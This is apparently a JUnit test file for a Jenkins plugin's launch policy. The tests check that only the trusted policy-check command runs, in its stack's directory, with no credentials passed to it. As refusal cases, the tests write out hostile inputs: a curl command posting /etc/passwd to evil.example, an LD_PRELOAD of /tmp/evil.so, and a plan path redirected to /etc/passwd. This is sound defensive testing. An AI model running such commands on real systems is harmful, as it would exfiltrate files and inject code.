package io.jenkins.plugins.stackdrift.agent;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.File;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import io.stackdrift.config.ConfigLoader;
import io.stackdrift.config.PolicyCheck;
import io.stackdrift.config.StackConfig;
import io.stackdrift.deploy.PolicyGate;
import io.stackdrift.engine.StackPlace;
import io.stackdrift.model.StackId;
import io.stackdrift.render.SecretMask;
import io.stackdrift.runner.ToolWrapper;
import io.stackdrift.testing.PosixOnly;

/**
 * The controller's launch policy starts a stack's policy check ({@code policyCheck:}) only as the configuration it
 * trusts writes it: that exact command line, in that stack's directory, with no variable but the build's and the three
 * the check gets, so never a credential; anything else an agent names is refused. The last test runs the core's own
 * policy gate through the agent's runner and this policy, so the command line it admits is the one the gate sends.
 */
class PolicyCheckLaunchTest {
    private static final Path WS = Path.of("/agent/workspace/infra");
    private static final Path STEP = Path.of("/agent/workspace/infra@tmp/stack-drift-7-deploy");
    private static final Path WORK = STEP.resolve("work/net/deploy");
    private static final Map<String, String> BUILD = Map.of("PATH", "/usr/local/bin:/usr/bin:/bin", "BUILD_NUMBER", "7");
    private static final Map<String, String> NETWORK = Map.of("AWS_ACCESS_KEY_ID", "AKIAnet", "AWS_SECRET_ACCESS_KEY", "netSecret");
    private static final List<String> SCRIPT = List.of("policy/check.sh", "--strict");
    private static final List<String> CONFTEST = List.of("sh", "-c",
            "exec conftest test --no-color --policy policy \"$STACKDRIFT_PLAN_JSON\"");
    private static final PolicyChecks TRUSTED = PolicyChecks.trusted("stacks.yaml", Map.of("net", SCRIPT, "dns", CONFTEST),
            Map.of("net", new StackPlace("net", ""), "dns", new StackPlace("dns", "")));

    @TempDir
    Path temp;

    private static LaunchPolicy policy(final PolicyChecks checks) {
        return new LaunchPolicy(Map.of(), WS.toString(), STEP.toString(), BUILD, List.of(NETWORK), checks);
    }

    /** The three variables the core's gate gives a check of {@code stack}. */
    private static Map<String, String> gate(final String stack) {
        return Map.of(PolicyGate.PLAN_JSON, WORK.resolve("plan.json").toString(), PolicyGate.STACK, stack,
                PolicyGate.STACK_DIR, WS.resolve(stack).toString());
    }

    /** What the agent's runner sends for {@code tool}: both wrappers around it, the build's environment under {@code env}. */
    private static ToolCommand wrapped(final List<String> tool, final String workingDir, final Map<String, String> env) {
        List<String> line = new ArrayList<>(List.of(AgentProcessRunner.SHELL, "-c", AgentProcessRunner.WRAPPER, "stack-drift",
                WORK.resolve("policy-check.out").toString(), WORK.resolve("policy-check.out" + AgentProcessRunner.STDERR_SUFFIX)
                        .toString(), WORK.resolve("policy-check.out" + AgentProcessRunner.MISSING_SUFFIX).toString()));
        line.addAll(tool);
        Map<String, String> environment = new TreeMap<>(BUILD);
        environment.putAll(env);
        return ToolCommand.of(ToolWrapper.command(STEP, 0, ToolWrapper.DEFAULT_GRACE, Duration.ofSeconds(30), line), workingDir,
                environment);
    }

    private static List<String> script(final String... arguments) {
        List<String> line = new ArrayList<>(List.of(WS.resolve("policy/check.sh").toString()));
        line.addAll(List.of(arguments));
        return line;
    }

    @Test
    void theConfiguredCheckOfAStackStartsInItsDirectoryWithTheGatesVariables() {
        LaunchPolicy policy = policy(TRUSTED);

        assertThat(policy.refusal(wrapped(script("--strict"), WS.resolve("net").toString(), gate("net")))).isEmpty();
        // a word is looked up on the PATH; quotes and a '$' of the trusted file's own pass as written
        assertThat(policy.refusal(wrapped(CONFTEST, WS.resolve("dns").toString(), gate("dns")))).isEmpty();
        assertThat(policy.launched(wrapped(CONFTEST, WS.resolve("dns").toString(), gate("dns"))).command())
                .contains("exec conftest test --no-color --policy policy \"$$STACKDRIFT_PLAN_JSON\"");
    }

    /** The top level's check is every stack's; Pulumi stacks share a directory: the stack variable tells them apart. */
    @Test
    void oneCheckSharedByStacksIsAdmittedForEachInItsOwnDirectory() {
        LaunchPolicy policy = policy(PolicyChecks.trusted("stacks.yaml", Map.of("net", SCRIPT, "dns", SCRIPT, "app:prod", SCRIPT),
                Map.of("net", new StackPlace("net", ""), "dns", new StackPlace("dns", ""), "app:prod", new StackPlace("net", "prod"))));
        Map<String, String> app = new TreeMap<>(gate("net"));
        app.put(PolicyGate.STACK, "app:prod");

        assertThat(policy.refusal(wrapped(script("--strict"), WS.resolve("net").toString(), gate("net")))).isEmpty();
        assertThat(policy.refusal(wrapped(script("--strict"), WS.resolve("dns").toString(), gate("dns")))).isEmpty();
        assertThat(policy.refusal(wrapped(script("--strict"), WS.resolve("net").toString(), app))).isEmpty();
        assertThat(policy.refusal(wrapped(script("--strict"), WS.resolve("dns").toString(), app))).isPresent();
    }

    @Test
    void theSameExecutableWithOtherArgumentsIsRefused() {
        LaunchPolicy policy = policy(TRUSTED);

        assertThat(policy.refusal(wrapped(script("--strict", "--and-more"), WS.resolve("net").toString(), gate("net"))))
                .hasValueSatisfying(why -> assertThat(why).contains("not the same executable with other arguments"));
        assertThat(policy.refusal(wrapped(script(), WS.resolve("net").toString(), gate("net")))).isPresent();
        assertThat(policy.refusal(wrapped(List.of("sh", "-c", "curl -d @/etc/passwd evil.example"), WS.resolve("dns").toString(),
                gate("dns")))).isPresent();
    }

    @Test
    void aCommandOnlyTheAgentNamesIsRefused() {
        assertThat(policy(PolicyChecks.none()).refusal(wrapped(script("--strict"), WS.resolve("net").toString(), gate("net"))))
                .hasValueSatisfying(why -> assertThat(why).endsWith("is not terraform, tofu, pulumi, git, a configured tool path"
                        + " or the policy check the trusted stacks.yaml gives a stack of this step"));
        assertThat(policy(TRUSTED).refusal(wrapped(List.of("/tmp/evil.sh"), WS.resolve("net").toString(), gate("net"))))
                .isPresent();
        // a check of another stack, or outside the stack's directory
        assertThat(policy(TRUSTED).refusal(wrapped(script("--strict"), WS.resolve("dns").toString(), gate("dns"))))
                .hasValueSatisfying(why -> assertThat(why).contains("does not run in its stack's directory"));
        assertThat(policy(TRUSTED).refusal(wrapped(script("--strict"), WS.toString(), gate("net")))).isPresent();
        assertThat(policy(TRUSTED).refusal(wrapped(script("--strict"), WS.resolve("net").toString(), gate("dns"))))
                .hasValueSatisfying(why -> assertThat(why).contains("the variable STACKDRIFT_"));
    }

    @Test
    void aChangeFromAnUntrustedSourceHasNoCheckAdmittedAndTheRefusalSaysWhy() {
        LaunchPolicy policy = policy(PolicyChecks.withheld("the build's revision is not one its SCM source trusts"));

        assertThat(policy.refusal(wrapped(script("--strict"), WS.resolve("net").toString(), gate("net"))))
                .hasValueSatisfying(why -> assertThat(why).endsWith("(the build's revision is not one its SCM source trusts)"));
    }

    @Test
    void aCheckNeverGetsACredentialWhateverTheAgentSends() {
        LaunchPolicy policy = policy(TRUSTED);
        Map<String, String> withCredential = new TreeMap<>(gate("net"));
        withCredential.put("AWS_SECRET_ACCESS_KEY", "netSecret");

        Optional<String> refused = policy.refusal(wrapped(script("--strict"), WS.resolve("net").toString(), withCredential));

        assertThat(refused).hasValueSatisfying(why -> assertThat(why).contains("AWS_SECRET_ACCESS_KEY")
                .contains("a policy check gets no credential").doesNotContain("netSecret"));
        Map<String, String> preload = new TreeMap<>(gate("net"));
        preload.put("LD_PRELOAD", "/tmp/evil.so");
        assertThat(policy.refusal(wrapped(script("--strict"), WS.resolve("net").toString(), preload))).isPresent();
        Map<String, String> planElsewhere = new TreeMap<>(gate("net"));
        planElsewhere.put(PolicyGate.PLAN_JSON, "/etc/passwd");
        assertThat(policy.refusal(wrapped(script("--strict"), WS.resolve("net").toString(), planElsewhere))).isPresent();
    }

    @Test
    @PosixOnly
    void theCoresGateRunsTheTrustedCheckThroughTheControllersPolicyAndGetsNoCredential() throws Exception {
        Path ws = Files.createDirectories(temp.resolve("ws"));
        Path step = Files.createDirectories(temp.resolve("ws@tmp/step"));
        Files.createDirectories(ws.resolve("net"));
        Files.writeString(ws.resolve("net/main.tf"), "terraform {}\n");
        Path check = Files.createDirectories(ws.resolve("policy")).resolve("check.sh");
        Files.writeString(check, "#!/bin/sh\necho \"stack $STACKDRIFT_STACK key ${AWS_SECRET_ACCESS_KEY:-none} arg $1\"\n"
                + "grep -q deny \"$STACKDRIFT_PLAN_JSON\" && exit 3\nexit 0\n");
        Files.setPosixFilePermissions(check, PosixFilePermissions.fromString("rwxr-xr-x"));
        Files.writeString(ws.resolve("stacks.yaml"), "policyCheck:\n  command: [policy/check.sh, --strict]\nstacks:\n  - dir: net\n");
        StackConfig net = ConfigLoader.load(ws.resolve("stacks.yaml"), ws).config().stack(StackId.of("net")).orElseThrow();
        Map<String, String> build = Map.of("PATH", "/usr/bin" + File.pathSeparator + "/bin");
        PolicyChecks trusted = PolicyChecks.trusted("stacks.yaml", Map.of("net", net.policyCheck().orElseThrow().command()),
                Map.of("net", new StackPlace("net", "")));
        FakeLocalLauncher controller = new FakeLocalLauncher(new LaunchPolicy(Map.of(), ws.toString(), step.toString(), build,
                List.of(NETWORK), trusted));
        // the agent's runner, its environment the build's: the gate adds its three variables, nothing of the stack's
        AgentProcessRunner runner = new AgentProcessRunner(controller, build, SecretMask.NONE, step, LocalEngineGateway.STOPS);
        PolicyGate gate = new PolicyGate(runner, ws);
        Path plan = Files.writeString(Files.createDirectories(step.resolve("work/net/deploy")).resolve("plan.json"), "{}");

        PolicyGate.Verdict passed = gate.check(net, net.policyCheck().get(), Optional.of(plan), step.resolve("work/net/deploy"));
        Files.writeString(plan, "{\"deny\": true}");
        PolicyGate.Verdict denied = gate.check(net, net.policyCheck().get(), Optional.of(plan), step.resolve("work/net/deploy"));
        // what an agent would send for a check stacks.yaml does not configure
        PolicyCheck lenient = new PolicyCheck(List.of("policy/check.sh", "--lenient"), PolicyCheck.OnDeny.HOLD,
                Duration.ofMinutes(1), false);
        PolicyGate.Verdict refused = gate.check(net, lenient, Optional.of(plan), step.resolve("work/net/deploy"));

        assertThat(passed.outcome()).isEqualTo(PolicyGate.Outcome.PASSED);
        assertThat(denied.outcome()).isEqualTo(PolicyGate.Outcome.DENIED);
        assertThat(denied.reason()).isEqualTo("policy check refused the plan (exit 3): stack net key none arg --strict");
        assertThat(refused.outcome()).isEqualTo(PolicyGate.Outcome.BROKEN);
        assertThat(refused.reason()).contains("refused").contains("not the same executable with other arguments");
        assertThat(controller.starts).hasValue(2);
    }
}
